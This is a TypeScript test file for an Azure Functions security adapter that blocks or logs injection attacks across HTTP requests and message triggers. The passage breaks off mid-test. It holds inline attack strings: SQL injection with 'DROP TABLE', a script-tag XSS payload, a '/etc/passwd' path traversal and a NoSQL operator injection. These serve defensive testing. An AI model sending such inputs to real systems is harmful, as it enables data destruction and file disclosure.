import t from 'tap';
import { app, HttpRequest, InvocationContext, PreInvocationContext, type HttpRequestInit, type HttpResponseInit } from '@azure/functions';
import {
  createPreInvocationHook,
  protect,
  protectApp,
  RaspConfigError,
  RequestBlockedError,
  type SecurityEvent,
} from '../../adapters/azure-functions/index';
import { readBodyKeepReadable } from '../../adapters/azure-functions/body';
import { clientIp, routeTemplate, stripPort } from '../../adapters/azure-functions/normalize';
import { invocationContext as context, kafkaRecord } from '../helpers/azure-events';
import { ATTACKS, BENIGN } from '../helpers/tables';

type Any = any;

const BASE = 'https://orders-app.azurewebsites.net';

function logs() {
  const lines: SecurityEvent[] = [];
  return { lines, log: (line: string) => lines.push(JSON.parse(line) as SecurityEvent) };
}

const HTTP_TRIGGER = { type: 'httpTrigger', name: 'request', methods: ['GET', 'POST'], authLevel: 'anonymous', route: 'orders/{id:int?}' };
const httpContext = () => context(HTTP_TRIGGER);

/** HTTP header values are bytes: text outside Latin-1 arrives as its UTF-8 bytes read as Latin-1. */
const asHeader = (s: string): string => (/^[\x00-\xff]*$/.test(s) ? s : Buffer.from(s, 'utf8').toString('latin1'));

interface Placement {
  where: string;
  init: HttpRequestInit;
  /** What the handler must find where the value was put. */
  read: (req: HttpRequest) => Promise<string | undefined>;
}

/** Where a value can be placed in an HTTP request, and how the handler reads it back. */
function placements(value: string): Placement[] {
  return [
    {
      where: 'query',
      init: { method: 'GET', url: `${BASE}/api/orders?q=${encodeURIComponent(value)}&page=2` },
      read: async (r) => r.query.get('q') ?? undefined,
    },
    {
      where: 'body',
      init: {
        method: 'POST',
        url: `${BASE}/api/orders`,
        headers: { 'content-type': 'application/json' },
        body: { string: JSON.stringify({ items: [{ name: 'x' }, { name: value }] }) },
      },
      read: async (r) => ((await r.json()) as Any).items[1].name,
    },
    {
      where: 'header',
      init: { method: 'GET', url: `${BASE}/api/orders`, headers: { 'x-customer-note': asHeader(value) } },
      read: async (r) => r.headers.get('x-customer-note') ?? undefined,
    },
    {
      where: 'param',
      init: { method: 'GET', url: `${BASE}/api/orders/${encodeURIComponent(value)}`, params: { id: value } },
      read: async (r) => r.params.id,
    },
    {
      where: 'cookie',
      init: { method: 'GET', url: `${BASE}/api/orders`, headers: { cookie: `session=abc123; pref=${encodeURIComponent(value)}` } },
      read: async (r) => {
        const m = /pref=([^;]*)/.exec(r.headers.get('cookie') ?? '');
        return m ? decodeURIComponent(m[1]!) : undefined;
      },
    },
  ];
}

t.test('HTTP: every attack in every source is blocked with 403 and the Lambda body', async (t) => {
  const calls: HttpRequest[] = [];
  const { lines, log } = logs();
  const handler = protect(async (request: HttpRequest) => {
    calls.push(request);
    return { status: 200, body: 'ok' };
  }, { log });
  let n = 0;
  for (const a of ATTACKS) {
    for (const p of placements(a.payload)) {
      const ctx = httpContext();
      const res = (await handler(new HttpRequest(p.init), ctx)) as HttpResponseInit;
      t.equal(res.status, 403, `${a.class} in ${p.where}: ${a.payload}`);
      t.same(JSON.parse(res.body as string), { error: 'blocked', requestId: ctx.invocationId }, 'same JSON as Lambda, no echo');
      t.equal((res.headers as Record<string, string>)['content-type'], 'application/json');
      n++;
    }
  }
  t.equal(calls.length, 0, 'the handler never ran');
  t.equal(lines.length, n, 'one security event per blocked request');
  t.ok(lines.every((l) => l.action === 'block' && l.provider === 'azure' && l.trigger === 'http' && l.function === 'orders'));
});

t.test('HTTP: benign text passes and the handler reads it unchanged, body included', async (t) => {
  const { lines, log } = logs();
  for (const text of BENIGN) {
    for (const p of placements(text)) {
      let seen: string | undefined;
      let same = false;
      const original = new HttpRequest(p.init);
      const handler = protect(async (request: HttpRequest) => {
        same = request === original;
        seen = await p.read(request);
        return { status: 201 };
      }, { log });
      const res = (await handler(original, httpContext())) as HttpResponseInit;
      t.equal(res.status, 201, `${p.where}: ${text}`);
      t.ok(same, 'the handler got the very same request object');
      t.equal(seen, p.where === 'header' ? asHeader(text) : text, 'and read the value unchanged');
    }
  }
  t.equal(lines.length, 0, 'no security events for benign traffic');
});

t.test('HTTP: after inspection the body keeps the platform\'s semantics (bytes, one read, streams, forms, clone)', async (t) => {
  const run = async (init: HttpRequestInit, user: (r: HttpRequest) => Promise<void>): Promise<number> => {
    const handler = protect(async (request: HttpRequest) => {
      await user(request);
      return { status: 200 };
    }, { log: false });
    return ((await handler(new HttpRequest(init), httpContext())) as HttpResponseInit).status as number;
  };
  // Bytes that are not valid UTF-8 come back exactly (only the inspected copy is decoded).
  const binary = Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x80, 0xc3, 0x28]);
  await run({ method: 'POST', url: `${BASE}/api/upload`, headers: { 'content-type': 'image/jpeg' }, body: { bytes: binary } }, async (r) => {
    t.same([...new Uint8Array(await r.arrayBuffer())], [...binary], 'binary body byte for byte');
    t.equal(r.bodyUsed, true, 'bodyUsed after a read');
    await t.rejects(r.text(), TypeError, 'a second read rejects like the native body');
    t.throws(() => r.clone(), TypeError, 'clone after a read throws like the native one');
  });
  await run({ method: 'POST', url: `${BASE}/api/upload`, headers: { 'content-type': 'image/jpeg' }, body: { bytes: binary } }, async (r) => {
    const blob = await r.blob();
    t.equal(blob.type, 'image/jpeg', 'blob type from Content-Type');
    t.same([...new Uint8Array(await blob.arrayBuffer())], [...binary], 'blob bytes');
  });
  // The stream, read by hand.
  await run({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'text/plain' }, body: { string: 'stream me' } }, async (r) => {
    const chunks: Uint8Array[] = [];
    const reader = (r.body as ReadableStream<Uint8Array>).getReader();
    for (let c = await reader.read(); !c.done; c = await reader.read()) chunks.push(c.value);
    t.equal(Buffer.concat(chunks).toString('utf8'), 'stream me', 'body stream');
    t.equal(r.bodyUsed, true, 'reading the stream uses the body');
  });
  // Forms, URL-encoded and multipart.
  await run({ method: 'POST', url: `${BASE}/api/form`, headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: { string: 'name=Tom+%26+Jerry&qty=2' } }, async (r) => {
    const f = await r.formData();
    t.equal(f.get('name'), 'Tom & Jerry', 'urlencoded form');
  });
  const boundary = 'b0undary';
  const multipart = `--${boundary}\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n--${boundary}--\r\n`;
  await run({ method: 'POST', url: `${BASE}/api/form`, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, body: { string: multipart } }, async (r) => {
    t.equal((await r.formData()).get('note'), 'hello', 'multipart form');
  });
  // clone() before a read: both copies readable, independently.
  await run({ method: 'POST', url: `${BASE}/api/orders?page=2`, headers: { 'content-type': 'application/json', 'x-trace': 'a' }, body: { string: '{"a":1}' } }, async (r) => {
    const c = r.clone();
    t.ok(c instanceof HttpRequest, 'a real HttpRequest');
    t.same(await c.json(), { a: 1 }, 'the clone reads the body');
    t.equal(c.headers.get('x-trace'), 'a', 'the clone keeps headers');
    t.equal(c.query.get('page'), '2', 'and the query');
    t.equal(r.bodyUsed, false, 'the original is still unused');
    t.same(await r.json(), { a: 1 }, 'the original reads it too');
  });
  // And attacks in the body are still found.
  t.equal(await run({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'application/json' }, body: { string: JSON.stringify({ q: "1' OR '1'='1" }) } }, async () => undefined), 403);
});

t.test('HTTP: the body stays readable as text, JSON and bytes after inspection', async (t) => {
  const body = JSON.stringify({ customer: "O'Brien", note: 'Tom & Jerry' });
  const reads: Array<(r: HttpRequest) => Promise<unknown>> = [
    (r) => r.text(),
    (r) => r.json(),
    async (r) => Buffer.from(await r.arrayBuffer()).toString('utf8'),
  ];
  for (const read of reads) {
    let got: unknown;
    const handler = protect(async (request: HttpRequest) => {
      t.equal(request.bodyUsed, false, 'body not consumed by inspection');
      got = await read(request);
      return { status: 200 };
    }, { log: false });
    const req = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'application/json' }, body: { string: body } });
    await handler(req, httpContext());
    t.same(typeof got === 'string' ? JSON.parse(got) : got, JSON.parse(body));
  }
});

t.test('HTTP: form bodies, repeated query keys, verbatim keys', async (t) => {
  const handler = protect(async () => ({ status: 200 }), { log: false });
  const form = new HttpRequest({
    method: 'POST',
    url: `${BASE}/api/orders`,
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: { string: 'name=ok&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E' },
  });
  t.equal(((await handler(form, httpContext())) as HttpResponseInit).status, 403, 'form body field');
  const repeated = new HttpRequest({ method: 'GET', url: `${BASE}/api/orders?tag=ok&tag=${encodeURIComponent("1' OR '1'='1")}` });
  t.equal(((await handler(repeated, httpContext())) as HttpResponseInit).status, 403, 'second value of a repeated key');
  // The host's own query map (request.query from init) may fold or drop values: the URL is inspected too.
  const folded = new HttpRequest({ method: 'GET', url: `${BASE}/api/orders?q=${encodeURIComponent('<script>alert(1)</script>')}`, query: { q: 'fine' } });
  t.equal(((await handler(folded, httpContext())) as HttpResponseInit).status, 403, 'URL query string even when request.query disagrees');
  const nosql = new HttpRequest({ method: 'GET', url: `${BASE}/api/login?user=admin&password[$ne]=x` });
  t.equal(((await handler(nosql, httpContext())) as HttpResponseInit).status, 403, 'operator in a query key');
});

t.test('HTTP: monitor mode lets attacks through with a log line', async (t) => {
  const { lines, log } = logs();
  let calls = 0;
  const handler = protect(async (request: HttpRequest) => {
    calls++;
    await request.text();
    return { status: 200 };
  }, { mode: 'monitor', log });
  for (const a of ATTACKS) {
    const p = placements(a.payload)[1]!; // JSON body
    const res = (await handler(new HttpRequest(p.init), httpContext())) as HttpResponseInit;
    t.equal(res.status, 200, `${a.class} passed`);
  }
  t.equal(calls, ATTACKS.length);
  t.equal(lines.length, ATTACKS.length);
  t.ok(lines.every((l) => l.action === 'monitor' && l.where?.startsWith('body')));
});

t.test('security events: shape, invocation id, source IP', async (t) => {
  const { lines, log } = logs();
  const events: SecurityEvent[] = [];
  const handler = protect(async () => ({ status: 200 }), { log, onSecurityEvent: (e) => events.push(e) });
  const ctx = httpContext();
  await handler(
    new HttpRequest({
      method: 'GET',
      url: `${BASE}/api/orders?q=${encodeURIComponent('../../../../etc/passwd')}`,
      headers: { 'x-forwarded-for': '10.9.8.7, 203.0.113.7:52110', 'client-ip': '203.0.113.7:52110' },
    }),
    ctx,
  );
  const e = lines[0]!;
  t.same(Object.keys(e).sort(), ['action', 'class', 'findings', 'function', 'micros', 'provider', 'requestId', 'rule', 'sourceIp', 'time', 'trigger', 'type', 'where'].sort());
  t.match(e, { type: 'serverless-rasp', provider: 'azure', function: 'orders', requestId: ctx.invocationId, trigger: 'http', sourceIp: '203.0.113.7', action: 'block', class: 'path-traversal', where: 'query.q' });
  t.same(events[0], e, 'onSecurityEvent gets the same event');
});

t.test('client IP: client-ip, else the rightmost x-forwarded-for entry, ports stripped', async (t) => {
  const h = (m: Record<string, string>) => (name: string) => m[name];
  t.equal(clientIp(h({ 'client-ip': '203.0.113.7:52110', 'x-forwarded-for': '1.2.3.4, 203.0.113.7:52110' })), '203.0.113.7');
  t.equal(clientIp(h({ 'x-forwarded-for': '1.2.3.4, 203.0.113.8:443' })), '203.0.113.8', 'forged leftmost entry ignored');
  t.equal(clientIp(h({ 'x-forwarded-for': '[2001:db8::7]:50432' })), '2001:db8::7');
  t.equal(clientIp(h({ 'client-ip': '2001:db8::9' })), '2001:db8::9', 'bare IPv6 kept whole');
  t.equal(clientIp(h({})), undefined);
  t.equal(stripPort('198.51.100.1'), '198.51.100.1');
  t.equal(stripPort('[::1]'), '::1');
});

t.test('route keys for schemas come from the registered route', async (t) => {
  t.equal(routeTemplate('orders/{id:int}'), 'orders/{id}');
  t.equal(routeTemplate('orders/{id?}'), 'orders/{id}');
  t.equal(routeTemplate('files/{*path}'), 'files/{path+}');
  t.equal(routeTemplate('/a/{b:regex(^x$)}/c'), 'a/{b}/c');
  const schema = { type: 'object', required: ['qty'], properties: { qty: { type: 'integer' } } };
  const handler = protect(async () => ({ status: 200 }), { log: false, schemas: { 'POST /orders/{id}': schema } });
  const ctx = () => context({ type: 'httpTrigger', name: 'request', methods: ['POST'], route: 'orders/{id:int}' });
  const req = (body: string) =>
    new HttpRequest({ method: 'POST', url: `${BASE}/api/orders/7`, params: { id: '7' }, headers: { 'content-type': 'application/json' }, body: { string: body } });
  const bad = (await handler(req('{"qty":"many"}'), ctx())) as HttpResponseInit;
  t.equal(bad.status, 400, 'schema-only findings answer 400');
  t.equal(JSON.parse(bad.body as string).error, 'invalid_request');
  t.equal(((await handler(req('{"qty":2}'), ctx())) as HttpResponseInit).status, 200);
});

t.test('HTTP: malformed input never crashes and always gets an answer', async (t) => {
  let calls = 0;
  const handler = protect(async (request: HttpRequest) => {
    calls++;
    await request.text();
    return { status: 200 };
  }, { log: false });
  const post = (body: string, type = 'application/json') =>
    new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': type }, body: { string: body } });
  t.equal(((await handler(post('{"items": [1, 2,'), httpContext())) as HttpResponseInit).status, 200, 'invalid JSON is inspected as text');
  t.equal(((await handler(post("{not json ' OR '1'='1"), httpContext())) as HttpResponseInit).status, 403, 'and attacks in it still count');
  const big = 'a'.repeat(5 * 1024 * 1024);
  t.equal(((await handler(post(JSON.stringify({ note: big }), 'application/json'), httpContext())) as HttpResponseInit).status, 200, '5 MB body');
  const bigAttack = JSON.stringify({ note: big, q: '<script>alert(1)</script>' });
  t.equal(((await handler(post(bigAttack), httpContext())) as HttpResponseInit).status, 403, '5 MB body with an attack at the end');
  t.equal(((await handler(post('', 'application/json'), httpContext())) as HttpResponseInit).status, 200, 'empty body');
  const noType = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, body: { string: '\u0000\u0001binary\u00ff' } });
  t.equal(((await handler(noType, httpContext())) as HttpResponseInit).status, 200, 'binary without a content type');
  t.equal(calls, 4, 'every clean request reached the handler');
});

t.test('library failures fail open (or closed with failClosed)', async (t) => {
  const { lines, log } = logs();
  let calls = 0;
  const open = protect(async () => {
    calls++;
    return { status: 200 };
  }, { log });
  const used = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'text/plain' }, body: { string: 'hi' } });
  await used.text(); // someone already consumed it: clone() throws
  t.equal(((await open(used, httpContext())) as HttpResponseInit).status, 200);
  t.equal(calls, 1, 'handler ran');
  t.equal(lines[0]?.action, 'error', 'the failure was reported');
  const closed = protect(async () => ({ status: 200 }), { log: false, failClosed: true });
  const used2 = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, body: { string: 'hi' } });
  await used2.text();
  t.equal(((await closed(used2, httpContext())) as HttpResponseInit).status, 403);
});

// ---- non-HTTP triggers ----

interface TriggerCase {
  name: string;
  trigger: Record<string, unknown>;
  /** The payload and trigger metadata the worker passes, with `value` in one attacker-controlled place. */
  build: (value: string) => { payload: unknown; metadata?: Record<string, unknown> };
  /** Attack classes not looked for there (a CloudEvent `source` URI's host is not read for SSRF). */
  skip?: string[];
}

const queueMeta = (text: string) => ({
  queueTrigger: text,
  dequeueCount: 1,
  id: '5f7d3b4a-8d0e-4a43-9b43-3c1f7c0f4c11',
  popReceipt: 'AgAAAAMAAAAAAAAA',
  insertionTime: '2026-05-01T10:00:00+00:00',
  expirationTime: '2026-05-08T10:00:00+00:00',
  nextVisibleTime: '2026-05-01T10:10:00+00:00',
});

const blobMeta = (name: string, extra: Record<string, unknown> = {}) => ({
  blobTrigger: `uploads/${name}`,
  uri: `http://127.0.0.1:10000/devstoreaccount1/uploads/${encodeURIComponent(name)}`,
  properties: { contentType: 'text/plain', length: 12, eTag: '"0x8DC0A1B2C3D4E5F"', blobType: 'BlockBlob' },
  metadata: { owner: 'jane' },
  name,
  ...extra,
});

const cosmosDoc = (fields: Record<string, unknown>) => ({
  id: 'a1b2c3',
  ...fields,
  _rid: 'ZkE3AJ8xJbsBAAAAAAAAAA==',
  _self: 'dbs/ZkE3AA==/colls/ZkE3AJ8xJbs=/docs/ZkE3AJ8xJbsBAAAAAAAAAA==/',
  _etag: '"00000000-0000-0000-7d6b-1e6e3c9c01da"',
  _attachments: 'attachments/',
  _ts: 1714557600,
  _lsn: 42,
});

const b64 = (s: string | Uint8Array): string => Buffer.from(s).toString('base64');

/** A Kafka trigger's record with `dataType: 'string'`: the extension's event document, parsed by @azure/functions. */
const kafkaEvent = (value: string, headers: Array<{ Key: string; Value: string }> = [{ Key: 'trace-id', Value: b64('4bf92f3577b34da6') }], key: string | null = 'order-7') =>
  kafkaRecord(value, headers, key);
const KAFKA = { type: 'kafkaTrigger', name: 'event', topic: 'orders', brokerList: '%BrokerList%', consumerGroup: '$Default', protocol: 'saslSsl', authenticationMode: 'plain', dataType: 'string' };
const KAFKA_MANY = { ...KAFKA, name: 'events', cardinality: 'MANY' };
const KAFKA_BINARY = { ...KAFKA, dataType: 'binary' };
/** Trigger metadata of a binary-dataType Kafka record (camelCased by @azure/functions). */
const kafkaMeta = (key: unknown, headers: unknown[] = []) => ({ key, partition: 2, topic: 'orders', timestamp: '2026-05-01T10:00:00.123Z', offset: 1042, headers });

const TRIGGERS: TriggerCase[] = [
  { name: 'storageQueue text', trigger: { type: 'queueTrigger', name: 'item', queueName: 'orders' }, build: (v) => ({ payload: v, metadata: queueMeta(v) }) },
  {
    name: 'storageQueue JSON',
    trigger: { type: 'queueTrigger', name: 'item', queueName: 'orders' },
    build: (v) => ({ payload: { order: { id: 7, note: v } }, metadata: queueMeta(JSON.stringify({ order: { id: 7, note: v } })) }),
  },
  {
    name: 'serviceBusQueue body',
    trigger: { type: 'serviceBusTrigger', name: 'message', queueName: 'orders' },
    build: (v) => ({ payload: { customer: v }, metadata: { messageId: 'm-1', deliveryCount: 1, contentType: 'application/json', applicationProperties: {} } }),
  },
  {
    name: 'serviceBusQueue application property',
    trigger: { type: 'serviceBusTrigger', name: 'message', queueName: 'orders' },
    build: (v) => ({ payload: { customer: 'jane' }, metadata: { messageId: 'm-1', deliveryCount: 1, applicationProperties: { origin: v } } }),
  },
  {
    name: 'serviceBusQueue many',
    trigger: { type: 'serviceBusTrigger', name: 'messages', queueName: 'orders', cardinality: 'many' },
    build: (v) => ({ payload: [{ customer: 'jane' }, v], metadata: { messageIdArray: ['m-1', 'm-2'], applicationPropertiesArray: [{}, {}] } }),
  },
  {
    name: 'eventHub many (message)',
    trigger: { type: 'eventHubTrigger', name: 'events', eventHubName: 'telemetry', cardinality: 'many' },
    build: (v) => ({
      payload: ['plain', { device: 'd-1', reading: 21.5 }, { device: 'd-2', label: v }],
      metadata: {
        partitionContext: { eventHubName: 'telemetry', consumerGroup: '$Default', partitionId: '0' },
        propertiesArray: [{}, {}, {}],
        systemPropertiesArray: [{ SequenceNumber: 1 }, { SequenceNumber: 2 }, { SequenceNumber: 3 }],
        sequenceNumberArray: [1, 2, 3],
        enqueuedTimeUtcArray: ['2026-05-01T10:00:00Z', '2026-05-01T10:00:01Z', '2026-05-01T10:00:02Z'],
      },
    }),
  },
  {
    name: 'eventHub many (binary message)',
    trigger: { type: 'eventHubTrigger', name: 'events', eventHubName: 'telemetry', cardinality: 'many' },
    build: (v) => ({ payload: [Buffer.from('ok'), Buffer.from(JSON.stringify({ label: v }))], metadata: { propertiesArray: [{}, {}] } }),
  },
  {
    name: 'eventHub property',
    trigger: { type: 'eventHubTrigger', name: 'events', eventHubName: 'telemetry', cardinality: 'many' },
    build: (v) => ({ payload: [{ reading: 1 }, { reading: 2 }], metadata: { propertiesArray: [{}, { source: v }] } }),
  },
  {
    name: 'eventHub one',
    trigger: { type: 'eventHubTrigger', name: 'event', eventHubName: 'telemetry', cardinality: 'one' },
    build: (v) => ({ payload: { label: v }, metadata: { properties: {}, partitionKey: 'p1', sequenceNumber: 9 } }),
  },
  {
    name: 'storageBlob content',
    trigger: { type: 'blobTrigger', name: 'blob', path: 'uploads/{name}' },
    build: (v) => ({ payload: Buffer.from(JSON.stringify({ title: v })), metadata: blobMeta('report.json') }),
  },
  {
    name: 'storageBlob text content',
    trigger: { type: 'blobTrigger', name: 'blob', path: 'uploads/{name}' },
    build: (v) => ({ payload: Buffer.from(v), metadata: blobMeta('notes.txt') }),
  },
  {
    name: 'storageBlob name',
    trigger: { type: 'blobTrigger', name: 'blob', path: 'uploads/{name}' },
    build: (v) => ({ payload: Buffer.from('hello'), metadata: blobMeta(v) }),
  },
  {
    name: 'storageBlob metadata',
    trigger: { type: 'blobTrigger', name: 'blob', path: 'uploads/{name}' },
    build: (v) => ({ payload: Buffer.from('hello'), metadata: blobMeta('a.txt', { metadata: { owner: v } }) }),
  },
  {
    name: 'cosmosDB documents',
    trigger: { type: 'cosmosDBTrigger', name: 'documents', databaseName: 'shop', containerName: 'orders' },
    build: (v) => ({ payload: [cosmosDoc({ customer: 'jane' }), cosmosDoc({ customer: v })] }),
  },
  {
    name: 'eventGrid data',
    trigger: { type: 'eventGridTrigger', name: 'event' },
    build: (v) => ({
      payload: {
        id: 'e-1',
        topic: '/subscriptions/0000/resourceGroups/rg/providers/Microsoft.EventGrid/topics/orders',
        subject: 'orders/7',
        eventType: 'Shop.OrderPlaced',
        eventTime: '2026-05-01T10:00:00Z',
        data: { note: v },
        dataVersion: '1.0',
        metadataVersion: '1',
      },
    }),
  },
  {
    name: 'eventGrid subject',
    trigger: { type: 'eventGridTrigger', name: 'event' },
    build: (v) => ({ payload: { id: 'e-1', subject: v, eventType: 'Shop.OrderPlaced', data: { ok: true }, dataVersion: '1.0' } }),
  },
  {
    name: 'storageQueue Event Grid CloudEvent, base64 data',
    trigger: { type: 'queueTrigger', name: 'item', queueName: 'grid-events' },
    build: (v) => {
      const ev = { specversion: '1.0', id: 'e-3', source: '/orders', type: 'Shop.OrderPlaced', time: '2026-05-01T10:00:00Z', data_base64: b64(v) };
      return { payload: ev, metadata: queueMeta(JSON.stringify(ev)) };
    },
  },
  { name: 'kafka one (value)', trigger: KAFKA, build: (v) => ({ payload: kafkaEvent(JSON.stringify({ order: 7, note: v })), metadata: kafkaMeta('order-7') }) },
  { name: 'kafka one (key)', trigger: KAFKA, build: (v) => ({ payload: kafkaEvent('{"order":7}', undefined, v), metadata: kafkaMeta(v) }) },
  { name: 'kafka one (header value)', trigger: KAFKA, build: (v) => ({ payload: kafkaEvent('{"order":7}', [{ Key: 'origin', Value: b64(v) }]), metadata: kafkaMeta('order-7', [{ key: 'origin', value: b64(v) }]) }) },
  {
    name: 'kafka many (value)',
    trigger: KAFKA_MANY,
    build: (v) => ({ payload: [kafkaEvent('{"order":6}'), kafkaEvent(v)], metadata: { keyArray: ['order-6', 'order-7'], headersArray: [[], []], partitionArray: [2, 2], offsetArray: [1, 2] } }),
  },
  { name: 'kafka binary (value)', trigger: KAFKA_BINARY, build: (v) => ({ payload: Buffer.from(v), metadata: kafkaMeta('order-7') }) },
  { name: 'kafka binary (key)', trigger: KAFKA_BINARY, build: (v) => ({ payload: Buffer.from('{"order":7}'), metadata: kafkaMeta(v) }) },
  {
    name: 'kafka binary many (header value)',
    trigger: { ...KAFKA_BINARY, name: 'events', cardinality: 'MANY' },
    build: (v) => ({ payload: [Buffer.from('{"order":6}'), Buffer.from('{"order":7}')], metadata: { keyArray: ['order-6', 'order-7'], headersArray: [[], [{ key: 'origin', value: b64(v) }]] } }),
  },
  {
    name: 'sql changes',
    trigger: { type: 'sqlTrigger', name: 'changes', tableName: 'dbo.Orders', connectionStringSetting: 'SqlConnectionString' },
    build: (v) => ({ payload: [{ Item: { OrderId: 6, Note: 'ok' }, Operation: 0 }, { Item: { OrderId: 7, Note: v }, Operation: 1 }] }),
  },
  {
    name: 'storageBlob Content-Disposition',
    trigger: { type: 'blobTrigger', name: 'blob', path: 'uploads/{name}' },
    build: (v) => ({ payload: Buffer.from('hello'), metadata: blobMeta('a.txt', { properties: { contentType: 'text/plain', contentDisposition: v, length: 5, eTag: '"0x8DC0A1B2C3D4E5F"', blobType: 'BlockBlob' } }) }),
  },
  {
    name: 'eventGrid CloudEvents schema, base64 data',
    trigger: { type: 'eventGridTrigger', name: 'event' },
    build: (v) => ({ payload: { specversion: '1.0', id: 'e-2', source: '/orders', type: 'Shop.OrderPlaced', data_base64: Buffer.from(JSON.stringify({ note: v })).toString('base64') } }),
  },
  // Every member a custom topic's publisher sets, in both schemas, and the Service Bus and Event Hubs
  // metadata their senders set.
  {
    name: 'eventGrid eventType',
    trigger: { type: 'eventGridTrigger', name: 'event' },
    build: (v) => ({ payload: { id: 'e-1', subject: 'orders/7', eventType: v, eventTime: '2026-05-01T10:00:00Z', data: { ok: true }, dataVersion: '1.0' } }),
  },
  {
    name: 'eventGrid CloudEvents schema type',
    trigger: { type: 'eventGridTrigger', name: 'event' },
    build: (v) => ({ payload: { specversion: '1.0', id: 'e-2', source: '/orders', type: v, data: { ok: true } } }),
  },
  {
    name: 'eventGrid CloudEvents schema source',
    trigger: { type: 'eventGridTrigger', name: 'event' },
    build: (v) => ({ payload: { specversion: '1.0', id: 'e-2', source: v, type: 'Shop.OrderPlaced', data: { ok: true } } }),
    skip: ['ssrf'],
  },
  {
    name: 'serviceBusQueue transactionPartitionKey',
    trigger: { type: 'serviceBusTrigger', name: 'message', queueName: 'orders' },
    build: (v) => ({ payload: { customer: 'jane' }, metadata: { messageId: 'm-1', deliveryCount: 1, transactionPartitionKey: v } }),
  },
  {
    name: 'eventHub one, systemProperties',
    trigger: { type: 'eventHubTrigger', name: 'event', eventHubName: 'telemetry', cardinality: 'one' },
    build: (v) => ({ payload: { reading: 1 }, metadata: { properties: {}, systemProperties: { SequenceNumber: 9, 'x-opt-sequence-number': 9, CorrelationId: v } } }),
  },
  {
    name: 'eventHub many, systemProperties',
    trigger: { type: 'eventHubTrigger', name: 'events', eventHubName: 'telemetry', cardinality: 'many' },
    build: (v) => ({ payload: [{ reading: 1 }, { reading: 2 }], metadata: { propertiesArray: [{}, {}], systemPropertiesArray: [{ SequenceNumber: 1 }, { SequenceNumber: 2, MessageId: v }] } }),
  },
];

t.test('non-HTTP triggers: every attack in every payload field throws RequestBlockedError before the handler', async (t) => {
  for (const c of TRIGGERS) {
    t.test(c.name, async (t) => {
      const { lines, log } = logs();
      let calls = 0;
      const handler = protect(async () => {
        calls++;
      }, { log });
      const attacks = ATTACKS.filter((x) => c.skip?.includes(x.class) !== true);
      for (const a of attacks) {
        const { payload, metadata } = c.build(a.payload);
        const ctx = context(c.trigger, metadata);
        await t.rejects(handler(payload, ctx), RequestBlockedError, `${a.class}: ${a.payload}`);
      }
      t.equal(calls, 0, 'the handler never ran');
      t.ok(lines.length >= attacks.length && lines.every((l) => l.action === 'block' && l.provider === 'azure'), 'blocks were logged');
    });
  }
});

t.test('non-HTTP triggers: benign text reaches the handler unchanged', async (t) => {
  for (const c of TRIGGERS) {
    t.test(c.name, async (t) => {
      const { lines, log } = logs();
      for (const text of BENIGN) {
        const { payload, metadata } = c.build(text);
        const snapshot = JSON.stringify(payload);
        let got: unknown;
        const handler = protect(async (input: unknown) => {
          got = input;
          return 'done';
        }, { log });
        t.equal(await handler(payload, context(c.trigger, metadata)), 'done', text);
        t.equal(got, payload, 'the very same payload');
        t.equal(JSON.stringify(payload), snapshot, 'not modified');
      }
      t.same(lines, [], 'no security events');
    });
  }
});

t.test("eventGrid: a CloudEvent `source` URI's scheme and plain host name the publisher; the rest is read", async (t) => {
  const { lines, log } = logs();
  let calls = 0;
  const handler = protect(async () => {
    calls++;
  }, { log });
  const ctx = () => context({ type: 'eventGridTrigger', name: 'event' });
  const ev = (source: string) => ({ specversion: '1.0', id: 'e-9', source, type: 'Shop.OrderPlaced', time: '2026-05-01T10:00:00Z', data: { ok: true } });
  for (const ok of ['http://localhost:7071/api/publisher', 'https://127.0.0.1:5001', '/subscriptions/0000/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/acct']) await handler(ev(ok), ctx());
  t.equal(calls, 3, 'a dev publisher is not blocked');
  for (const bad of ["http://localhost:7071/api/x'; DROP TABLE events; --", "http://x'or'1'='1/"]) await t.rejects(handler(ev(bad), ctx()), RequestBlockedError, bad);
  t.same(lines.map((l) => l.where), ['payload.source', 'payload.source']);
});

t.test('non-HTTP: the error names the rule and path, never the payload; security event per message', async (t) => {
  const { lines, log } = logs();
  const handler = protect(async () => undefined, { log });
  const ctx = context({ type: 'eventHubTrigger', name: 'events', cardinality: 'many' }, { propertiesArray: [{}, {}] });
  const err = (await handler([{ a: 1 }, { label: "x'; DROP TABLE customers; --" }], ctx).catch((e: unknown) => e)) as RequestBlockedError;
  t.type(err, RequestBlockedError);
  t.equal(err.code, 'RASP_ERR_BLOCKED');
  t.equal(err.requestId, ctx.invocationId);
  t.match(err.message, /sqli\.\S+ at payload\[1\]\.label/);
  t.notMatch(err.message, /DROP TABLE/);
  t.equal(lines[0]?.requestId, `${ctx.invocationId}#1`, 'the message index is in the event');
  t.equal(lines[0]?.trigger, 'event-hub');
});

t.test('non-HTTP: `schema` validates each message', async (t) => {
  const schema = { type: 'object', required: ['sku'], properties: { sku: { type: 'string', pattern: '^[A-Z0-9-]{3,32}$' } } };
  let calls = 0;
  const handler = protect(async () => {
    calls++;
  }, { log: false, schema });
  const q = () => context({ type: 'queueTrigger', name: 'item', queueName: 'orders' });
  await handler({ sku: 'AB-123' }, q());
  await t.rejects(handler({ sku: 'nope nope' }, q()), RequestBlockedError, 'invalid message');
  await t.rejects(handler([{ sku: 'AB-123' }, { qty: 1 }], context({ type: 'serviceBusTrigger', name: 'm', cardinality: 'many' })), RequestBlockedError, 'one invalid message of a batch');
  t.equal(calls, 1);
});

t.test('non-HTTP: monitor mode runs the handler and logs', async (t) => {
  const { lines, log } = logs();
  let calls = 0;
  const handler = protect(async () => {
    calls++;
  }, { mode: 'monitor', log });
  for (const c of TRIGGERS) {
